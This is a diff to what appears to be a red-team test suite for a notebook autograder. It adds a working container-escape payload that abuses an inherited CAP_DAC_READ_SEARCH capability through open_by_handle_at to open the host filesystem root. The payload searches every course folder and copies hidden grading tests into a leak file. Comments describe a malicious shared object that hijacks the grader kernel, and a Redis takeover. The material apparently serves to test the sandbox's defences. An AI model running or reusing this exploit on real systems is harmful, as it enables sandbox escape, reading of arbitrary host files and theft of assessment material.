@@ -151,7 +151,10 @@ def _append(nb: NotebookNode, code: str) -> NotebookNode:
 
 
 #: Prints what the attack gathered, base64-encoded after "LEAK:" (tests decode it).
-PRINT_LEAK = """import base64, os
+PRINT_LEAK = """import base64, os, time
+_end = time.monotonic() + 6
+while os.path.exists("/tmp/rt-injected") and not os.path.exists("/tmp/rt-stolen") and time.monotonic() < _end:
+    time.sleep(0.1)
 for _path in ("/tmp/rt-leak.txt",):
     if os.path.exists(_path):
         print("LEAK:" + base64.b64encode(open(_path, "rb").read()).decode())"""
@@ -182,6 +185,61 @@ LENT_SETATTR = {
 #    shared object whose constructor runs as the grader's uid, which reads the grader kernel's
 #    connection file and executes code in it (every later test cell passes, hidden tests copied).
 EVIL_SO = "".join((HERE / "evil_so.b64").read_text().split())
+#: Also run as the grader's uid: its ambient CAP_DAC_READ_SEARCH (course/grading/launcher.py,
+#: kept by the grader kernel's children) allows open_by_handle_at, which opens the root of the
+#: host filesystem that /usr is mounted from (ext4 inode 2) and reads any file on it: here it
+#: lists every course folder (gradebook.db and source/) on the host and copies the hidden tests
+#: of the notebook being graded from each one's source/.
+HOST_READ = """
+import ctypes, os, struct
+libc = ctypes.CDLL(None, use_errno=True)
+class FH(ctypes.Structure):
+    _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int),
+                ('f_handle', ctypes.c_ubyte * 64)]
+h = FH(8, 1)
+struct.pack_into('<II', h.f_handle, 0, 2, 0)
+root = libc.open_by_handle_at(os.open('/usr', os.O_RDONLY), ctypes.byref(h), os.O_RDONLY | os.O_DIRECTORY)
+found = []
+def walk(fd, path, depth):
+    try:
+        names = os.listdir(fd)
+    except OSError:
+        return
+    if 'gradebook.db' in names and 'source' in names:
+        found.append(path)
+    if depth == 0:
+        return
+    for name in names:
+        if name in ('proc', 'sys', 'usr', 'lib', 'dev', '.git', '.venv', 'site-packages', 'node_modules'):
+            continue
+        try:
+            sub = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
+        except OSError:
+            continue
+        walk(sub, path + '/' + name, depth - 1)
+        os.close(sub)
+if root >= 0:
+    walk(root, '', 4)
+import re
+budget = 300_000
+with open('/tmp/rt-leak.txt', 'a') as out:
+    out.write('host root opened: %s; course folders: %s\\n' % (root >= 0, found))
+    for course in found:
+        src = os.open(course.lstrip('/') + '/source', os.O_RDONLY, dir_fd=root)
+        for level in sorted(os.listdir(src)):
+            folder = os.open(level, os.O_RDONLY, dir_fd=src)
+            for name in sorted(os.listdir(folder)):
+                if name != '01-redteam.ipynb':  # the notebook this learner is doing
+                    continue
+                with os.fdopen(os.open(name, os.O_RDONLY, dir_fd=folder), 'rb') as f:
+                    text = f.read().decode(errors='replace')
+                hidden = re.findall(r'BEGIN HIDDEN TESTS(.*?)END HIDDEN TESTS', text, re.S)
+                shown = '%s/source/%s/%s hidden tests: %s\\n' % (course, level, name, hidden)
+                budget -= len(shown)
+                if budget > 0:
+                    out.write(shown)
+open('/tmp/rt-stolen', 'w').close()
+"""
 #: What runs as the grader's uid (started by the shared object's constructor).
 PAYLOAD = '''import glob, os, time
 from jupyter_client import BlockingKernelClient
@@ -206,8 +264,7 @@ kc.start_channels()
 kc.execute(INJECT, silent=True, store_history=False)
 time.sleep(1)
 open('/tmp/rt-injected', 'w').close()
-time.sleep(30)
-'''
+''' + HOST_READ + "time.sleep(30)\n"
 REDIS_TAKEOVER = {
     "cache_put": ("import base64, os, sys\n\n\n"
                   "def cache_put(client, key, value):\n"
